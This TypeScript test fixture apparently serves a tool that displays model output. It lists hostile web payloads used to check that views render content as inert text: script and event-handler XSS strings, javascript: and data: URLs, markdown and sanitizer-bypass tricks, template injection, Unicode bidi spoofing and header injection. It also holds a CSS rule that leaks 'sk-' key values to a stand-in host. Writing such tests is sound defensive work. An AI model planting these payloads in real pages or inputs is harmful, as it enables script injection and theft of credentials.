/**
 * Content that tries to escape being data: every view that shows target
 * answers, model output or imported files must render all of it as inert text,
 * stay responsive, and never navigate. Each payload that could run script sets
 * `window.__pwned` (or opens a dialog), each that could navigate points at
 * example.invalid, so a test can tell whether any of it took effect.
 *
 * Used by unit tests (parsers, renderers), by e2e/hostile.spec.ts (every view
 * in Chromium) and by the hostile target and LLM servers in src/testing.
 */
export const PWNED_GLOBAL = '__pwned'
const P = `window.${PWNED_GLOBAL}=1`

/** Markup that runs script if it ever reaches innerHTML, a srcdoc or an eval. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  `<script>${P}</script>`,
  `<SCRIPT SRC=data:text/javascript,${P}></SCRIPT>`,
  `</textarea></title></style><script>${P}</script>`,
  `"><iframe srcdoc="<script>parent.${PWNED_GLOBAL}=1</script>">`,
  `<object data="data:text/html,<script>${P}</script>"></object>`,
  `<embed src="javascript:${P}">`,
  `<template><script>${P}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
]

/** Event handlers on elements that fire without a click. */
export const EVENT_HANDLER_PAYLOADS: readonly string[] = [
  `<img src=x onerror="${P}">`,
  `<svg onload="${P}"></svg>`,
  `<body onload=${P}>`,
  `<details open ontoggle="${P}">`,
  `<input autofocus onfocus="${P}">`,
  `<video><source onerror="${P}"></video>`,
  `<marquee onstart=${P}>`,
  `' onmouseover='${P}' x='`,
]

/** Addresses that navigate or run script if content ever becomes an href, src or location. */
export const URL_PAYLOADS: readonly string[] = [
  `javascript:${P}`,
  ` JaVaScRiPt:${P}`,
  `java\tscript:${P}`,
  `data:text/html,<script>${P}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  'vbscript:msgbox(1)',
  'https://example.invalid/phish',
  '//example.invalid/protocol-relative',
  `<a href="javascript:${P}">click me</a>`,
  '<meta http-equiv="refresh" content="0;url=https://example.invalid/">',
  '<form action="https://example.invalid/"><button>Submit</button></form>',
  '<base href="https://example.invalid/">',
]

/** Style that hides, covers or exfiltrates if it is ever applied. */
export const CSS_PAYLOADS: readonly string[] = [
  '<style>*{display:none!important}</style>',
  `<div style="position:fixed;inset:0;z-index:2147483647;background:url(javascript:${P})">overlay</div>`,
  '<link rel="stylesheet" href="https://example.invalid/x.css">',
  'input[value^="sk-"]{background:url(https://example.invalid/leak)}',
  '</style><style>body{visibility:hidden}</style>',
  'expression(alert(1))',
]

/** Markdown and HTML that smuggle markup past a naive renderer or sanitizer. */
export const SMUGGLING_PAYLOADS: readonly string[] = [
  `[click](javascript:${P})`,
  `![x](x" onerror="${P})`,
  '[ref]: javascript:alert(1)\n[link][ref]',
  `<img src="x" alt="\`\`\`"onerror=${P}>`,
  '```html\n<script>alert(1)</script>\n```',
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `&#60;img src=x onerror=${P}&#62;`,
  `<!--><script>${P}</script>-->`,
  `<![CDATA[<script>${P}</script>]]>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
  `{{constructor.constructor('${P}')()}}`,
  `\${alert(1)}`,
]

/** Text that lies about its direction or hides characters. */
export const UNICODE_PAYLOADS: readonly string[] = [
  '\u202Egnp.exe\u202C and zero\u200Bwidth\u200Djoiners\uFEFF',
  'admin\u200B', // looks like "admin"
  '\u2066isolate\u2069 \u202Bembed\u202C \u200Fmark',
  'sk-\u200Bproj-hidden-key',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 (stacked combining marks)',
  '\uD800 lone surrogate',
  'nul\u0000byte and bell\u0007',
  '\r\nX-Injected: header',
]

/** Keys and names that break code which stores data in plain objects. */
export const PROTOTYPE_NAMES: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']

/** Every small payload (no huge strings, no deep nesting). */
export const HOSTILE_STRINGS: readonly string[] = [
  ...SCRIPT_PAYLOADS,
  ...EVENT_HANDLER_PAYLOADS,
  ...URL_PAYLOADS,
  ...CSS_PAYLOADS,
  ...SMUGGLING_PAYLOADS,
  ...UNICODE_PAYLOADS,
]

/** One string holding every payload: for a field that is shown once. */
export const HOSTILE_TEXT: string = HOSTILE_STRINGS.join('\n')

/**
 * Names that are unique, non-empty and each carry a payload: for tag names,
 * observable names, experiment labels. Prototype names come first.
 */
export function hostileNames(count = HOSTILE_STRINGS.length): string[] {
  const pool = [...PROTOTYPE_NAMES, ...HOSTILE_STRINGS]
  return Array.from({ length: count }, (_, i) => (i < pool.length ? pool[i] : `${pool[i % pool.length]} #${i}`))
}

/** A string of `mb` megabytes (ASCII): views must truncate what they render. */
export function hugeString(mb: number, fill = 'A'): string {
  return fill.repeat(1024 * 1024 * mb)
}

/** JSON arrays nested `depth` levels deep, as text. */
export function deeplyNestedJson(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth)
}

/** JSON objects nested `depth` levels deep (`{"a":{"a":...}}`), as text. */
export function deeplyNestedObjectJson(depth: number, key = 'a'): string {
  return `{"${key}":`.repeat(depth) + 'null' + '}'.repeat(depth)
}
